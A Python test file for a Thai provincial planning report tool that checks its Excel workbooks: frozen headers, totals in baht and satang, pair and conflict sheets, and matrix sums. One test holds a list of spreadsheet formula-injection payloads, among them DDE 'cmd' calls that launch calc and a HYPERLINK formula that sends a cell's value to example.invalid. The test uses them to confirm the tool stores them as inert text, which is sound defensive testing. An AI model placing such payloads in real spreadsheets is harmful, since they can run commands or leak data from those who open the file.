"""The workbooks: what stands in them, what adds up, and that text from files never becomes a formula."""

import io
import zipfile
from collections.abc import Callable
from dataclasses import replace

import openpyxl
import pytest
from openpyxl.worksheet.worksheet import Worksheet

from prasan.publishing.parts import ProvinceReport, ReportFinding
from prasan.publishing.sheets.lists import WORKBOOKS, findings_xlsx, pairs_xlsx, plan_items_xlsx
from prasan.publishing.sheets.matrix import matrix_cells, matrix_xlsx
from prasan.publishing.testing import make_report

ALL = {**WORKBOOKS, "matrix.xlsx": matrix_xlsx}
HEAD = 4
DANGEROUS = (
    '=HYPERLINK("http://example.invalid/?x="&B2,"รายละเอียด")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|A",
    "-2+3+cmd|A!A1",
    "\t=1+1",
    "=1+1;ปรับปรุงถนน",
    "{=1+1}",
    "http://example.invalid/",
)


def opened(data: bytes) -> list[Worksheet]:
    return list(openpyxl.load_workbook(io.BytesIO(data)).worksheets)


def column(sheet: Worksheet, title: str) -> int:
    return next(cell.column for cell in sheet[HEAD] if cell.value == title)


@pytest.mark.parametrize("write", ALL.values(), ids=ALL)
def test_every_sheet_has_a_frozen_head_a_filter_and_a_print_setup(write: Callable[[ProvinceReport], bytes]) -> None:
    for sheet in opened(write(make_report())):
        assert sheet.freeze_panes == "A5"
        assert sheet.auto_filter.ref
        assert sheet.print_title_rows == "$4:$4"
        assert sheet.page_setup.orientation == "landscape"
        assert sheet["A4"].font.name == "TH Sarabun New"


@pytest.mark.parametrize("write", ALL.values(), ids=ALL)
def test_an_empty_report_gives_sheets_that_say_what_is_missing(write: Callable[[ProvinceReport], bytes]) -> None:
    full = make_report()
    for sheet in opened(write(ProvinceReport("46", "กาฬสินธุ์", 2569, "moi_2559", full.generated_on))):
        assert str(sheet["A5"].value).startswith(("ยังไม่มี", "ไม่พบ", "ไม่มี"))


def test_text_that_a_spreadsheet_would_run_stays_the_text_it_was() -> None:
    findings = tuple(
        ReportFinding("ไฟล์.xlsx", "ผ.02", n, f"B{n}", "formula_like_text", "warning", text, text, text)
        for n, text in enumerate(DANGEROUS, start=11)
    )
    data = findings_xlsx(replace(make_report(), findings=findings))
    sheet = opened(data)[0]
    place = column(sheet, "ค่าที่พบ")
    cells = [sheet.cell(HEAD + n, place) for n in range(1, len(DANGEROUS) + 1)]
    assert [cell.value for cell in cells] == list(DANGEROUS)
    assert {cell.data_type for cell in cells} == {"s"}
    assert [bool(cell.quotePrefix) for cell in cells] == [True] * 6 + [False, False]
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        content = archive.read("xl/worksheets/sheet1.xml").decode()
        assert "<f>" not in content
        assert not any("externalLink" in name for name in archive.namelist())
        assert "example.invalid" not in "".join(
            archive.read(name).decode() for name in archive.namelist() if name.endswith(".rels")
        )


def test_the_items_and_their_sums_stand_in_baht_and_match_the_report_to_the_satang() -> None:
    report = make_report(items_each=9)
    sheet = opened(plan_items_xlsx(report))[0]
    place = column(sheet, "วงเงินปีของแผน (บาท)")
    items = [item for plan in report.plans for item in plan.items]
    written = [sheet.cell(HEAD + n, place).value for n in range(1, len(items) + 1)]
    assert [None if v is None else round(v * 100) for v in written] == [item.amount_satang for item in items]
    total = sheet.cell(HEAD + len(items) + 1, place)
    assert str(total.value).startswith("=SUBTOTAL(109,")
    shown = openpyxl.load_workbook(io.BytesIO(plan_items_xlsx(report)), data_only=True).worksheets[0]
    assert round(shown[total.coordinate].value * 100) == sum(plan.total_satang for plan in report.plans)


def test_a_pair_stands_side_by_side_with_its_reasons_and_sources() -> None:
    report = make_report()
    sheet = opened(pairs_xlsx(report))[0]
    row = {sheet.cell(HEAD, cell.column).value: cell.value for cell in sheet[HEAD + 1]}
    pair = report.pairs[0]
    assert (row["รหัส 1"], row["รหัส 2"]) == (pair.first.code, pair.second.code)
    assert row["ที่มา 1"] == str(pair.first.source)
    assert row["เหตุผล"] == " · ".join(pair.reasons_th)
    assert row["ความเห็นของระบบ"] == "ทับซ้อน"


def test_works_in_each_others_way_stand_on_a_sheet_beside_the_pairs() -> None:
    report = make_report()
    sheet = opened(pairs_xlsx(report))[1]
    assert sheet.title == "งานที่ขัดกัน"
    row = {sheet.cell(HEAD, cell.column).value: cell.value for cell in sheet[HEAD + 1]}
    assert (row["เรื่องที่ขัดกัน"], row["ความแน่ชัด"], row["การพิจารณา"]) == ("ทำผิดลำดับ", "อาจขัดกัน", "รอพิจารณา")
    assert row["รหัส 1"] == report.conflicts[0].first.code
    assert row["เหตุผล"] == "วางท่อประปาให้เสร็จก่อนทำผิวถนน"


def test_the_matrix_counts_every_item_once_and_loses_no_satang() -> None:
    report = make_report(items_each=13)
    once = report.items_once()
    cells = matrix_cells(once)
    assert sum(counted for counted, _ in cells.values()) == len(once)
    assert sum(satang for _, satang in cells.values()) == sum(item.amount_satang or 0 for item in once)
    assert len(once) < sum(len(plan.items) for plan in report.plans)


def test_the_crossed_matrix_adds_up_to_the_flat_list() -> None:
    sheets = openpyxl.load_workbook(io.BytesIO(matrix_xlsx(make_report(items_each=13))), data_only=True).worksheets
    totals = [sheet.cell(sheet.max_row, sheet.max_column).value for sheet in sheets[:2]]
    flat = sheets[2]
    assert totals == [flat.cell(flat.max_row, 5).value, flat.cell(flat.max_row, 6).value]
    assert totals[0] > 0
